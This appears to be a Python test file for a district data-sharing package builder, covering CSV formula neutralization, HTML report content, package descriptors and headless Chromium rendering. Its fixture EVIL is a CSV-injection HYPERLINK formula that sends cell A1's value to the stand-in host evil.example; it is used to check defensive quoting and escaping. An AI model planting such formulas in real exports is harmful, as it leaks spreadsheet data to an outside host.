"""The partner's report, the district's overview, CSV formula neutralization and the standards
every package meets, including a render in headless Chromium."""

from __future__ import annotations

import dataclasses
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import polars as pl
import pytest
from markupsafe import escape
from package_fixtures import RAW_IDS, aggregate_table, release
from package_standards import check_csv_formulas, check_package

from datashare.package.bag import write_package
from datashare.package.describe import REASONS
from datashare.package.publish import publish
from datashare.package.report import render_report
from datashare.release.types import GATES

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser")


def _evil_release():  # type: ignore[no-untyped-def]
    table = aggregate_table().with_columns(
        school_name=pl.when(pl.col("school_id") == "S1").then(pl.lit(EVIL)).otherwise(pl.col("school_name"))
    )
    return release(aggregate=table)


def test_csv_text_cells_that_start_a_formula_are_neutralized(tmp_path: Path) -> None:
    write_package(_evil_release(), tmp_path / "p")
    csv = tmp_path / "p" / "data" / "aggregate_comparison.csv"
    text = pl.read_csv(csv, infer_schema=False)
    assert text.filter(pl.col("school_id") == "S1")["school_name"].unique().to_list() == ["'" + EVIL]
    typed = pl.read_csv(csv)
    assert typed.schema["served_n"].is_integer() and typed.schema["difference"].is_float()
    check_csv_formulas(tmp_path / "p")
    # The Parquet copy keeps the value as the SIS gave it; only spreadsheets need the quote.
    parquet = pl.read_parquet(tmp_path / "p" / "data" / "aggregate_comparison.parquet")
    assert EVIL in parquet["school_name"].to_list()


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_quoted_and_numbers_stay_numbers(tmp_path: Path, start: str) -> None:
    from datashare.package.bag import write_csv

    frame = pl.DataFrame({"name": [f"{start}1+1", "plain", None], "n": [-3, 4, None], "x": [-0.5, 0.25, None]})
    write_csv(frame, tmp_path / "t.csv")
    back = pl.read_csv(tmp_path / "t.csv")
    assert back["name"].to_list() == [f"'{start}1+1", "plain", None]
    assert back.schema["n"].is_integer() and back["n"].to_list() == [-3, 4, None]
    assert back["x"].to_list() == [-0.5, 0.25, None]
    assert (tmp_path / "t.csv").read_bytes().split(b"\n")[2] == b"plain,4,0.25"


def test_report_shows_gates_every_metric_reasons_and_terms(tmp_path: Path) -> None:
    rel = _evil_release()
    page = render_report(rel)
    assert page == render_report(rel)  # byte-identical on a rerun
    assert page.count("<svg") == 2  # one chart per metric of the agreement
    for gate in GATES:
        assert f"{rel.gates.get(gate, 0):,}" in page
    for code in ("suppressed:small_cell", "suppressed:complementary", "coded:extreme_share"):
        assert f'id="reason-{code.replace(":", "-")}"' in page and str(escape(REASONS[code])) in page
    assert "suppressed:secondary" not in page  # only the reasons that appear are explained
    assert "Evaluate after-school tutoring." in page and "2027-06-30" in page
    assert "91.2%" in page and "\u22645%" in page
    # A school name from the SIS is text, never markup.
    assert EVIL not in page and "=HYPERLINK(&#34;http://evil.example" in page
    assert re.search(r"""(src|href)=["']?https?:""", page) is None
    assert "<script" not in page


def test_report_marks_withheld_and_coded_figures_in_the_chart() -> None:
    page = render_report(release())
    chart = page[page.index("<svg"): page.index("</svg>")]
    assert "both figures withheld" not in chart  # attendance_rate: nothing withheld
    second = page[page.index("<svg", page.index("</svg>")):]
    assert "both figures withheld" in second and "(range)" in second


def test_report_of_an_aggregate_only_agreement_says_no_individual_records() -> None:
    page = render_report(release(individual=False))
    assert "not applicable, this agreement releases no individual records" in page


def test_report_is_deterministic_across_processes(tmp_path: Path) -> None:
    """The page (its chart ids and coordinates) must not depend on the process or the clock."""
    script = (
        "import sys; sys.path.insert(0, 'tests');"
        "from package_fixtures import release;"
        "from datashare.package.report import render_report;"
        "sys.stdout.write(render_report(release()))"
    )
    root = Path(__file__).resolve().parents[1]
    runs = [
        subprocess.run([os.sys.executable, "-c", script], cwd=root, capture_output=True, text=True, check=True).stdout
        for _ in range(2)
    ]
    assert runs[0] == runs[1] == render_report(release())


def test_readme_and_datapackage_explain_codes_grain_and_keys(tmp_path: Path) -> None:
    write_package(release(), tmp_path / "p")
    readme = (tmp_path / "p" / "data" / "README.md").read_text()
    for code in REASONS:
        assert f"`{code}`" in readme
    assert "one row per released student and school" in readme
    assert 'dtype_backend="numpy_nullable"' in readme and "report.html" in readme
    descriptor = json.loads((tmp_path / "p" / "data" / "datapackage.json").read_text())
    names = [r["name"] for r in descriptor["resources"]]
    assert len(set(names)) == len(names)
    students = next(r for r in descriptor["resources"] if r["path"] == "individual/students.parquet")
    assert students["description"].startswith("One row per released student and school")
    assert "Primary key: student_key, school_id." in students["description"]


def test_fixture_packages_meet_the_standards(tmp_path: Path) -> None:
    for name, rel in {"full": _evil_release(), "aggregate": release(individual=False)}.items():
        write_package(rel, tmp_path / name)
        check_package(tmp_path / name)


@pytest.fixture(scope="module")
def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("run")
    inputs = out.parent / "students.csv"
    inputs.write_text("student_id\n000101\n")
    releases = [release(), release("bright-2025-2026", "bright", individual=False)]
    publish(releases, out, raw_student_ids=RAW_IDS, input_files={"students": inputs}, operator="test")
    return out


def test_district_index_describes_every_package_and_check_in_words(published: Path) -> None:
    page = (published / "district" / "index.html").read_text()
    for agreement in ("el-centro-2025-2026", "bright-2025-2026"):
        assert f'id="{agreement}"' in page
    assert "No value of school_name equals a raw student_id of the district&#39;s extract." in page
    assert "Every published count in served_n is at least 10 students" in page
    assert "suppressed:small_cell" in page and str(escape(REASONS["suppressed:small_cell"])) in page
    assert "n/a" in page  # the aggregate-only agreement has no consent gate
    assert "&lt;0 raw" not in page and "value_set" not in page
    for link in re.findall(r'href="([^"#]+)"', page):
        assert (published / "district" / link).resolve().is_file(), link
    checks = (published / "district" / "checks" / "el-centro-2025-2026" / "index.html").read_text()
    assert "&lt;0 raw" not in checks and "what was checked" in checks


def _chromium(*args: str, page: Path, tmp: Path) -> subprocess.CompletedProcess[str]:
    assert CHROMIUM is not None
    command = [
        CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
        "--disable-background-networking", "--disable-component-update", "--disable-sync",
        "--disable-extensions", "--host-resolver-rules=MAP * ~NOTFOUND",
        f"--user-data-dir={tmp / 'profile'}", "--enable-logging=stderr", "--v=0", *args, page.as_uri(),
    ]  # fmt: skip
    return subprocess.run(command, capture_output=True, text=True, timeout=120, check=False)


@pytest.mark.skipif(
    CHROMIUM is None and os.environ.get("CI") != "true", reason="chromium is not installed (CI installs it)"
)
@pytest.mark.parametrize("which", ["report", "district"])
def test_pages_render_in_headless_chromium(published: Path, tmp_path: Path, which: str) -> None:
    assert CHROMIUM is not None, "CI must have chromium: .ci/run installs it"
    page = (
        published / "partners" / "el-centro" / "el-centro-2025-2026" / "data" / "report.html"
        if which == "report"
        else published / "district" / "index.html"
    )
    dom = _chromium("--dump-dom", page=page, tmp=tmp_path)
    assert dom.returncode == 0, dom.stderr[-2000:]
    assert "INFO:CONSOLE" not in dom.stderr, [l for l in dom.stderr.splitlines() if "CONSOLE" in l]
    if which == "report":
        assert dom.stdout.count("<svg") == 2 and dom.stdout.count('role="img"') == 2
        assert dom.stdout.count("<figcaption>") == 2 and "The agreement's terms" in dom.stdout
    else:
        assert "Release run overview" in dom.stdout and "el-centro-2025-2026" in dom.stdout
    shot = _chromium(f"--screenshot={tmp_path / 'page.png'}", "--window-size=1000,2400", page=page, tmp=tmp_path)
    assert (tmp_path / "page.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n", shot.stderr[-2000:]
    pdf = _chromium(f"--print-to-pdf={tmp_path / 'page.pdf'}", "--no-pdf-header-footer", page=page, tmp=tmp_path)
    data = (tmp_path / "page.pdf").read_bytes()
    assert data[:5] == b"%PDF-", pdf.stderr[-2000:]
    assert len(re.findall(rb"/Type\s*/Page\b", data)) >= (2 if which == "report" else 1)


def test_report_names_no_student_value(tmp_path: Path) -> None:
    rel = release()
    page = render_report(dataclasses.replace(rel))
    for key in rel.tables["students"]["student_key"]:
        assert key not in page


def test_every_reason_code_the_release_can_write_is_explained() -> None:
    from datashare.release.disclosure import REASONS as RELEASE_REASONS

    assert set(RELEASE_REASONS) | {"not_supplied"} <= set(REASONS)


def test_report_and_readme_tell_the_partner_to_destroy_withdrawn_records(tmp_path: Path) -> None:
    rel = release()
    withdrawn = pl.DataFrame({"student_key": rel.tables["students"]["student_key"][:2], "reason": ["consent_revoked", "not_eligible"]})
    page = render_report(dataclasses.replace(rel, tables={**rel.tables, "withdrawn": withdrawn}))
    assert "2 student(s) whose individual records an earlier release gave you" in page
    from datashare.package.describe import GRAIN, describe_column, table_schema

    assert "consent_revoked" in describe_column("withdrawn", "reason") and "withdrawn" in GRAIN
    assert table_schema("withdrawn", withdrawn)["primaryKey"] == ["student_key"]


def _many_schools(count: int):  # type: ignore[no-untyped-def]
    """A release of one metric at ``count`` schools, the larger ones serving more students."""
    ids = [f"S{i:02d}" for i in range(count)]
    rows = {
        "school_id": [*ids, "ALL"],
        "school_name": [f"School {i:02d}" for i in range(count)] + ["All schools"],
        "metric": ["attendance_rate"] * (count + 1),
        "served_n": [10 + i for i in range(count)] + [500],
        "served_value": [0.9] * (count + 1),
        "served_display": ["90.0%"] * (count + 1),
        "comparison_n": [100] * (count + 1),
        "comparison_value": [0.8] * (count + 1),
        "comparison_display": ["80.0%"] * (count + 1),
        "difference": [0.1] * (count + 1),
        "suppressed": [False] * (count + 1),
        "note": [None] * (count + 1),
    }
    table = pl.DataFrame(rows, schema_overrides={"served_n": pl.Int64, "comparison_n": pl.Int64})
    rel = release(individual=False)
    agreement = rel.agreement.model_copy(
        update={"aggregate": rel.agreement.aggregate.model_copy(update={"metrics": ("attendance_rate",)})}
    )
    return dataclasses.replace(rel, agreement=agreement, tables={"aggregate_comparison": table})


def test_a_district_of_many_schools_charts_the_largest_and_tables_them_all() -> None:
    from datashare.package.report import CHART_SCHOOLS

    count = CHART_SCHOOLS + 10
    page = render_report(_many_schools(count))
    chart = page[page.index("<svg"): page.index("</svg>")]
    assert "School 24" in chart and "School 10" in chart and "School 09" not in chart  # the 15 largest
    assert page.count("<th scope=\"row\">School ") == count  # the table lists every school
    assert f"the {CHART_SCHOOLS} schools with the most served students" in page


def test_a_metric_without_data_reads_not_supplied() -> None:
    table = aggregate_table().with_columns(
        pl.when(pl.col("metric") == "suspension_rate").then(None).otherwise(pl.col(c)).alias(c)
        for c in ("served_n", "served_value", "comparison_n", "comparison_value", "difference")
    ).with_columns(
        pl.when(pl.col("metric") == "suspension_rate").then(pl.lit("not_supplied")).otherwise(pl.col("note")).alias("note"),
        pl.when(pl.col("metric") == "suspension_rate").then(None).otherwise(pl.col("served_display")).alias("served_display"),
        pl.when(pl.col("metric") == "suspension_rate").then(None).otherwise(pl.col("comparison_display")).alias("comparison_display"),
    )
    page = render_report(release(aggregate=table))
    assert "no data supplied" in page and 'id="reason-not_supplied"' in page
    assert str(escape(REASONS["not_supplied"])) in page


def test_reports_made_together_equal_reports_made_one_by_one() -> None:
    """A run makes every report's rows in one query; each page is the one its release alone gives."""
    from datashare.package.report import CHART_SCHOOLS, report_rows

    releases = [release(), _evil_release(), _many_schools(CHART_SCHOOLS + 3), release(individual=False), _many_schools(4)]
    rows = report_rows([r.tables["aggregate_comparison"] for r in releases])
    assert len(rows) == len(releases)
    for rel, mine in zip(releases, rows, strict=True):
        assert render_report(rel, mine) == render_report(rel)


def test_a_report_made_in_a_batch_does_not_depend_on_its_companions() -> None:
    """Tables of other dtypes or column orders are made apart: each page stays its own."""
    from datashare.package.report import report_rows

    table = aggregate_table()
    floats = table.with_columns(pl.col("served_n").cast(pl.Float64))
    reordered = table.select(reversed(table.columns))
    releases = [release(aggregate=t) for t in (table, floats, reordered, table)]
    rows = report_rows([r.tables["aggregate_comparison"] for r in releases])
    for rel, mine in zip(releases, rows, strict=True):
        assert render_report(rel, mine) == render_report(rel)
    assert '<td class="num">12</td>' in render_report(releases[0], rows[0])
